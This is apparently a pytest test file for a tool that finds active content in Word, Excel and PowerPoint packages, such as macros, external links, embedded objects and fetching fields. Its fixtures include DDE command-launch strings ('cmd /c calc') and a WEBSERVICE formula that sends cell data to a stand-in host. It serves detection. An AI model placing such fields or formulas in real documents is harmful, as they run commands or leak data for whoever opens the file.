"""Active content of packages: every kind of it is named, and only what is new."""

import io
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pptx
import pytest
from openpyxl.workbook.defined_name import DefinedName
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches

from kbd.formats import Inspectable, Mappable, Source
from kbd_docx import DocxFormat
from kbd_pptx import PptxFormat
from kbd_xlsx import XlsxFormat

FORMATS: Mapping[str, Any] = {
    ".docx": DocxFormat(), ".xlsx": XlsxFormat(), ".pptx": PptxFormat()
}  # fmt: skip
MAIN = {".docx": "word/document.xml", ".xlsx": "xl/workbook.xml", ".pptx": "ppt/presentation.xml"}
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"

EXTERNAL = (
    (".docx", "attachedTemplate", "https://e.example/t.dotm"),
    (".docx", "image", "https://e.example/a.png"), (".docx", "oleObject", "file:///h/s/a.xlsx"),
    (".docx", "aFChunk", "https://e.example/a.html"), (".docx", "subDocument", "file:///h/a.docx"),
    (".docx", "frame", "https://e.example/f.docx"), (".docx", "mailMergeSource", "file:///h/a.csv"),
    (".xlsx", "externalLinkPath", "file:///h/s/a.xlsx"), (".xlsx", "image", "//host/share/a.png"),
    (".xlsx", "xmlMaps", "https://e.example/m.xml"), (".pptx", "image", "https://e.example/a.png"),
    (".pptx", "video", "https://e.example/v.mp4"), (".pptx", "audio", "file:///h/a.wav"),
)  # fmt: skip

INSIDE = (
    (".docx", MICROSOFT, "vbaProject", b"\xd0\xcf", "macros: part.bin"),
    (".xlsx", MICROSOFT, "vbaProject", b"\xd0\xcf", "macros: part.bin"),
    (".pptx", MICROSOFT, "vbaProject", b"\xd0\xcf", "macros: part.bin"),
    (".xlsx", MICROSOFT, "xlMacrosheet", b"<x/>", "sheet of macros: part.bin"),
    (".docx", OFFICE, "control", b"<x/>", "control: part.bin"),
    (".docx", OFFICE, "oleObject", b"MZ", "embedded object: part.bin"),
    (".pptx", OFFICE, "package", b"PK", "embedded file: part.bin"),
    (".docx", OFFICE, "aFChunk", b"<html/>", "inserted file: part.bin"),
    (".xlsx", MICROSOFT, "ui/extensibility", b"<customUI onLoad='x'/>", "commands that call code"),
    (".xlsx", OFFICE, "connections",
     b"<connections><connection id='1' refreshOnLoad='1'/></connections>", "data connection"),
    (".xlsx", OFFICE, "queryTable", b"<queryTable refreshOnLoad='1'/>", "query: "),
    (".xlsx", OFFICE, "externalLink",
     b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
     "link to a program: <ddeLink ddeService='cmd'"),
    (".xlsx", OFFICE, "pivotCacheDefinition",
     b"<pivotCacheDefinition refreshOnLoad='1'></pivotCacheDefinition>", "data that is refreshed"),
    (".xlsx", OFFICE, "customXml", b"<DataMashup xmlns='x'>AAAA</DataMashup>", "query: <DataMash"),
)  # fmt: skip


def made(suffix: str) -> dict[str, bytes]:
    """Return the parts of a plain file."""
    file = io.BytesIO()
    match suffix:
        case ".docx":
            docx.Document().save(file)
        case ".xlsx":
            openpyxl.Workbook().save(file)
        case _:
            pptx.Presentation().save(file)
    with zipfile.ZipFile(file) as package:
        return {name: package.read(name) for name in package.namelist()}


def related(parts: dict[str, bytes], suffix: str, relation: str) -> dict[str, bytes]:
    """Return the parts with one more relation of the main one."""
    folder, _, base = MAIN[suffix].rpartition("/")
    name = f"{folder}/_rels/{base}.rels"
    end = b"</Relationships>"
    return parts | {name: parts[name].replace(end, relation.encode() + end)}


def written(path: Path, parts: Mapping[str, bytes]) -> Source:
    """Write parts as a file."""
    with zipfile.ZipFile(path, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return Source(path, path.name)


@pytest.mark.sampled(5)
@pytest.mark.parametrize(("suffix", "kind", "target"), EXTERNAL)
def test_what_a_package_refers_to_is_named(
    tmp_path: Path, suffix: str, kind: str, target: str
) -> None:
    """Each external target but that of a link to read, with its kind; it is no news to itself."""
    link = f'<Relationship Id="zz1" Type="{OFFICE}{kind}" Target="{target}" TargetMode="External"/>'
    source = written(tmp_path / f"a{suffix}", related(made(suffix), suffix, link))
    handler = FORMATS[suffix]
    assert handler.active_content(source, ()) == (f"external {kind}: {target}",)
    assert handler.active_content(source, (source,)) == ()
    assert handler.active_content(written(tmp_path / f"b{suffix}", made(suffix)), ()) == ()


@pytest.mark.sampled(5)
@pytest.mark.parametrize(("suffix", "space", "kind", "data", "expected"), INSIDE)
def test_what_a_package_holds_is_named(
    tmp_path: Path, suffix: str, space: str, kind: str, data: bytes, expected: str
) -> None:
    """Macros, controls, embedded files, connections, queries, programs; changed, they are new."""
    folder = MAIN[suffix].rpartition("/")[0]
    link = f'<Relationship Id="zz1" Type="{space}{kind}" Target="part.bin"/>'
    parts = related(made(suffix), suffix, link)
    types = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/x"/></Types>'
    )
    parts |= {f"{folder}/part.bin": data, "[Content_Types].xml": types}
    source = written(tmp_path / f"a{suffix}", parts)
    handler = FORMATS[suffix]
    (text,) = handler.active_content(source, ())
    assert text.startswith(expected)
    assert handler.active_content(source, (source,)) == ()
    other = data.replace(b"1", b"true").replace(b"calc", b"id").replace(b"AAAA", b"BBBB")
    other = other if other != data else data + b" "
    changed = written(tmp_path / f"b{suffix}", parts | {f"{folder}/part.bin": other})
    assert len(handler.active_content(changed, (source,))) == 1


def test_fields_that_fetch_are_named(tmp_path: Path) -> None:
    """Also where the instruction is cut into runs."""
    parts = made(".docx")
    for instruction in (
        'INCLUDEPICTURE "https://e.example/a.png"', 'INCLUDETEXT "//h/s/a.docx"',
        'DDEAUTO c:\\windows\\cmd.exe "/c calc"', 'IMPORT "https://e.example/a.wmf"',
    ):  # fmt: skip
        half = len(instruction) // 2
        runs = "".join(
            f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
            for text in (instruction[:half], instruction[half:])
        )
        mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
        field = f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"
        body = parts[MAIN[".docx"]].replace(b"<w:sectPr", field.encode() + b"<w:sectPr", 1)
        source = written(tmp_path / "a.docx", parts | {MAIN[".docx"]: body})
        assert DocxFormat().active_content(source, ()) == (f"field: {instruction}",)


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("https://e.example/?"&A1)', '=HYPERLINK("https://e.example/?"&A1)',
     '=IMAGE("https://e.example/a.png")', '=RTD("p","s","t")', '=FILTERXML(A1,"//a")',
     "=cmd|'/c calc'!A1", '=IMPORTDATA("https://e.example")', '=STOCKHISTORY("MSFT",1)'],
)  # fmt: skip
def test_formulas_that_fetch_are_in_the_map(tmp_path: Path, formula: str) -> None:
    """Each with its place, for the model that reads the workbook."""
    book = openpyxl.Workbook()
    book.worksheets[0]["B2"] = formula
    book.save(tmp_path / "a.xlsx")
    found = XlsxFormat().map(Source(tmp_path / "a.xlsx", "a.xlsx"))
    assert found["active_content"] == [f"Sheet!B2: formula: {formula}"]


def test_links_count_if_they_send(tmp_path: Path) -> None:
    """A link to read is none; one with a query, or to another machine's files, is."""
    for target, counts in (
        ("https://e.example/a", False), ("https://e.example/?a=b", True),
        ("mailto:a@e.example", False), ("mailto:a@e.example?body=x", True),
        ("file:///h/s/a.exe", True), ("//host/share", True),
    ):  # fmt: skip
        link = (
            f'<Relationship Id="zz1" Type="{OFFICE}hyperlink" Target="{target}"'
            ' TargetMode="External"/>'
        )
        source = written(tmp_path / "a.pptx", related(made(".pptx"), ".pptx", link))
        assert bool(PptxFormat().active_content(source, ())) == counts, target


def test_every_editable_format_tells() -> None:
    """What is edited is looked into, and what is mapped tells of it."""
    for handler in FORMATS.values():
        assert isinstance(handler, Inspectable)
        assert isinstance(handler, Mappable)


def charted(workbook: Callable[[Any], object]) -> dict[str, bytes]:
    """Return the parts of a deck with a chart, after a change of the workbook behind it."""
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    data: Any = CategoryChartData()  # type: ignore[no-untyped-call] # it has no types
    data.categories = ["a", "b"]
    data.add_series("s", (1, 2))
    frame = slide.shapes.add_chart(XL_CHART_TYPE.LINE, 0, 0, Inches(2), Inches(2), data)
    part = frame.chart.part.chart_workbook.xlsx_part
    book = openpyxl.load_workbook(io.BytesIO(part.blob))
    workbook(book)
    changed, file = io.BytesIO(), io.BytesIO()
    book.save(changed)
    part._blob = changed.getvalue()
    deck.save(file)
    with zipfile.ZipFile(file) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_the_values_behind_a_chart_are_no_embedded_file(tmp_path: Path) -> None:
    """A native chart can be published as it is: nothing but values stands in its workbook."""
    source = written(tmp_path / "a.pptx", charted(lambda book: book.active.append(("x", 3))))

    assert FORMATS[".pptx"].active_content(source, ()) == ()


@pytest.mark.parametrize(
    "more",
    [
        lambda book: book.active.append(('=WEBSERVICE("https://e.example")',)),
        lambda book: book.defined_names.add(DefinedName("x", attr_text="[1]S!$A$1")),
        lambda book: setattr(book.active["A1"], "hyperlink", "https://e.example"),
    ],
)
def test_what_else_stands_behind_a_chart_is_named(
    tmp_path: Path, more: Callable[[Any], object]
) -> None:
    """A workbook with formulas, names or links is an embedded file like any other."""
    source = written(tmp_path / "a.pptx", charted(more))

    assert "embedded file" in str(FORMATS[".pptx"].active_content(source, ()))


def test_a_file_that_is_no_workbook_is_named_behind_a_chart(tmp_path: Path) -> None:
    """What only says that it is the data of a chart is not believed."""
    parts = charted(lambda _: None)
    parts = {name: b"MZ" if name.endswith(".xlsx") else data for name, data in parts.items()}

    assert "embedded file" in str(
        FORMATS[".pptx"].active_content(written(tmp_path / "a.pptx", parts), ())
    )
